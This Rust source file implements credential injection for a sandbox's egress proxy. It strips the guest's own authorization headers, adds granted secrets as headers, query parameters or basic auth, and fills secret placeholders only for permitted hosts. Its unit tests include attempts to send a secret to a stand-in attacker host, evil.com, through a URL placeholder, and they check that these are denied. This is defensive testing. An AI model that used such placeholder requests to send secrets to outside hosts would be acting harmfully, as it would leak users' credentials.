//! Step 4: credential injection. The guest's own credential headers are
//! removed; then each secret granted to this host is put on the wire as its
//! grant says, and `{secret:NAME}` placeholders are filled — only for
//! secrets granted to this host. Anything else is a denial.

use crate::grant::{Injection, SecretGrant};
use base64::Engine as _;
use http::header::{AUTHORIZATION, HeaderName, HeaderValue, PROXY_AUTHORIZATION};
use http::request::Parts;
use zeroize::Zeroizing;

const OPEN: &str = "{secret:";

/// Looks a secret up (recording it as injected) or says why it cannot.
type Fetch<'a> = dyn FnMut(&str) -> Result<Zeroizing<Vec<u8>>, String> + 'a;

/// Where the vault's values come from (the boundary's snapshot).
pub trait Values {
    /// The value of `name`, if the vault has it.
    fn value(&self, name: &str) -> Option<&[u8]>;
}

/// Inject into `parts` for `host`. Returns the names injected, or why the
/// request must not leave.
///
/// # Errors
///
/// A reason naming the secret (never its value): a placeholder for a
/// secret not granted to this host, or a granted secret the vault lacks.
pub fn inject(
    parts: &mut Parts,
    host: &str,
    grants: &[SecretGrant],
    values: &dyn Values,
) -> Result<Vec<String>, String> {
    let for_host: Vec<&SecretGrant> = grants.iter().filter(|g| g.hosts.iter().any(|h| h.matches(host))).collect();
    let mut injected = Vec::new();
    let mut fetch = |name: &str| -> Result<Zeroizing<Vec<u8>>, String> {
        let v = values.value(name).ok_or_else(|| {
            format!("secret `{name}` is granted for {host} but the vault has no value for it (set it with `claw secret set {name}`)")
        })?;
        if !injected.iter().any(|n| n == name) {
            injected.push(name.to_string());
        }
        Ok(Zeroizing::new(v.to_vec()))
    };

    // The guest's own credentials never pass: only the host injects them.
    parts.headers.remove(AUTHORIZATION);
    parts.headers.remove(PROXY_AUTHORIZATION);
    for g in &for_host {
        if let Injection::Header { name, .. } = &g.inject
            && let Ok(h) = HeaderName::try_from(name.as_str())
        {
            parts.headers.remove(h);
        }
    }

    // Placeholders in the path and query.
    let pq = parts.uri.path_and_query().map_or("/", |p| p.as_str()).to_string();
    if pq.contains(OPEN) {
        let filled = fill(&pq, host, &for_host, &mut fetch, true)?;
        set_path_and_query(parts, &filled)?;
    }
    // Placeholders in header values.
    let names: Vec<HeaderName> = parts.headers.keys().cloned().collect();
    for name in names {
        let values: Vec<HeaderValue> = parts.headers.get_all(&name).iter().cloned().collect();
        if !values.iter().any(|v| v.as_bytes().windows(OPEN.len()).any(|w| w == OPEN.as_bytes())) {
            continue;
        }
        parts.headers.remove(&name);
        for v in values {
            let text = String::from_utf8_lossy(v.as_bytes()).into_owned();
            let filled = Zeroizing::new(fill(&text, host, &for_host, &mut fetch, false)?);
            let hv = HeaderValue::from_bytes(filled.as_bytes())
                .map_err(|_| format!("header `{name}` is not valid once its placeholder is filled"))?;
            parts.headers.append(name.clone(), hv);
        }
    }

    // Configured injections.
    for g in &for_host {
        match &g.inject {
            Injection::None | Injection::Placeholder => {}
            Injection::Header { name, format } => {
                let v = fetch(&g.name)?;
                let text = Zeroizing::new(format.replace("{secret}", &String::from_utf8_lossy(&v)));
                let hn = HeaderName::try_from(name.as_str())
                    .map_err(|_| format!("secret `{}`: `{name}` is not a header name", g.name))?;
                let mut hv = HeaderValue::from_bytes(text.as_bytes())
                    .map_err(|_| format!("secret `{}` is not a valid header value", g.name))?;
                hv.set_sensitive(true);
                parts.headers.insert(hn, hv);
            }
            Injection::Query { param } => {
                let v = fetch(&g.name)?;
                let pq = parts.uri.path_and_query().map_or("/", |p| p.as_str()).to_string();
                let sep = if pq.contains('?') { '&' } else { '?' };
                let next = Zeroizing::new(format!("{pq}{sep}{}={}", pct(param.as_bytes()), pct(&v)));
                set_path_and_query(parts, &next)?;
            }
            Injection::Basic { username } => {
                let v = fetch(&g.name)?;
                let mut pair = Zeroizing::new(username.as_bytes().to_vec());
                pair.push(b':');
                pair.extend_from_slice(&v);
                let encoded = Zeroizing::new(base64::engine::general_purpose::STANDARD.encode(&*pair));
                let mut hv = HeaderValue::from_str(&format!("Basic {}", encoded.as_str()))
                    .map_err(|_| format!("secret `{}`: invalid basic auth", g.name))?;
                hv.set_sensitive(true);
                parts.headers.insert(AUTHORIZATION, hv);
            }
        }
    }
    Ok(injected)
}

/// Replace each `{secret:NAME}` in `text`.
fn fill(
    text: &str,
    host: &str,
    for_host: &[&SecretGrant],
    fetch: &mut Fetch<'_>,
    in_url: bool,
) -> Result<String, String> {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find(OPEN) {
        out.push_str(&rest[..start]);
        let after = &rest[start + OPEN.len()..];
        let end = after.find('}').ok_or_else(|| "an unterminated {secret:...} placeholder".to_string())?;
        let name = &after[..end];
        let granted = for_host.iter().any(|g| g.name == name && matches!(g.inject, Injection::Placeholder));
        if !granted {
            return Err(format!(
                "placeholder for secret `{name}`, which the grant does not allow as a placeholder for {host}"
            ));
        }
        let v = fetch(name)?;
        if in_url {
            out.push_str(&pct(&v));
        } else {
            out.push_str(&String::from_utf8_lossy(&v));
        }
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    Ok(out)
}

fn set_path_and_query(parts: &mut Parts, pq: &str) -> Result<(), String> {
    let mut uri = std::mem::take(&mut parts.uri).into_parts();
    uri.path_and_query =
        Some(pq.parse().map_err(|_| "the URL is not valid once its placeholder is filled".to_string())?);
    parts.uri =
        http::Uri::from_parts(uri).map_err(|_| "the URL is not valid once credentials are added".to_string())?;
    Ok(())
}

fn pct(v: &[u8]) -> String {
    let mut out = String::with_capacity(v.len());
    for &b in v {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::grant::Grant;
    use std::collections::HashMap;

    struct V(HashMap<&'static str, &'static [u8]>);
    impl Values for V {
        fn value(&self, name: &str) -> Option<&[u8]> {
            self.0.get(name).copied()
        }
    }

    fn vault() -> V {
        V(HashMap::from([
            ("tok", b"T0K/en".as_slice()),
            ("key", b"k3y".as_slice()),
            ("pw", b"p4ss".as_slice()),
            ("bot", b"123:ABC".as_slice()),
        ]))
    }

    fn grants() -> Vec<SecretGrant> {
        Grant::parse(
            r#"
[[secrets]]
name = "tok"
hosts = ["api.x.com"]
inject = "header"
header = "Authorization"
format = "Bearer {secret}"
[[secrets]]
name = "key"
hosts = ["maps.x.com"]
inject = "query"
param = "key"
[[secrets]]
name = "pw"
hosts = ["db.x.com"]
inject = "basic"
username = "me"
[[secrets]]
name = "bot"
hosts = ["api.telegram.org"]
inject = "placeholder"
"#,
            "g",
        )
        .unwrap()
        .secrets
    }

    fn parts(uri: &str, headers: &[(&str, &str)]) -> Parts {
        let mut b = http::Request::builder().uri(uri);
        for (k, v) in headers {
            b = b.header(*k, *v);
        }
        b.body(()).unwrap().into_parts().0
    }

    fn run(p: &mut Parts, values: &dyn Values) -> Result<Vec<String>, String> {
        let host = p.uri.host().unwrap().to_string();
        inject(p, &host, &grants(), values)
    }

    #[test]
    fn header_injection_replaces_the_guests_own_authorization() {
        let mut p = parts("https://api.x.com/v1", &[("authorization", "Bearer guest-made")]);
        let names = run(&mut p, &vault()).unwrap();
        assert_eq!(names, vec!["tok"]);
        assert_eq!(p.headers.get_all("authorization").iter().count(), 1);
        assert_eq!(p.headers["authorization"], "Bearer T0K/en");
        assert!(p.headers["authorization"].is_sensitive());
    }

    #[test]
    fn nothing_is_injected_for_other_hosts_and_guest_credentials_are_stripped() {
        let mut p = parts("https://evil.com/", &[("authorization", "Bearer x"), ("proxy-authorization", "y")]);
        let names = run(&mut p, &vault()).unwrap();
        assert!(names.is_empty());
        assert!(p.headers.get("authorization").is_none() && p.headers.get("proxy-authorization").is_none());
    }

    #[test]
    fn query_and_basic_injection() {
        let mut p = parts("https://maps.x.com/geo?q=1", &[]);
        run(&mut p, &vault()).unwrap();
        assert_eq!(p.uri.path_and_query().unwrap().as_str(), "/geo?q=1&key=k3y");
        let mut p = parts("https://db.x.com/", &[]);
        run(&mut p, &vault()).unwrap();
        assert_eq!(p.headers["authorization"], "Basic bWU6cDRzcw==");
    }

    #[test]
    fn placeholders_fill_only_for_their_granted_host() {
        let mut p = parts("https://api.telegram.org/bot{secret:bot}/sendMessage", &[("x-token", "t={secret:bot}")]);
        let names = run(&mut p, &vault()).unwrap();
        assert_eq!(names, vec!["bot"]);
        assert_eq!(p.uri.path(), "/bot123%3AABC/sendMessage");
        assert_eq!(p.headers["x-token"], "t=123:ABC");
        let mut p = parts("https://evil.com/bot{secret:bot}/x", &[]);
        let e = run(&mut p, &vault()).unwrap_err();
        assert!(e.contains("`bot`") && !e.contains("123:ABC"), "{e}");
        let mut p = parts("https://api.x.com/{secret:tok}", &[]);
        assert!(run(&mut p, &vault()).is_err(), "tok is a header secret, not a placeholder");
    }

    #[test]
    fn a_granted_secret_missing_from_the_vault_is_a_named_denial() {
        let mut p = parts("https://api.x.com/", &[]);
        let e = run(&mut p, &V(HashMap::new())).unwrap_err();
        assert!(e.contains("claw secret set tok"), "{e}");
    }
}
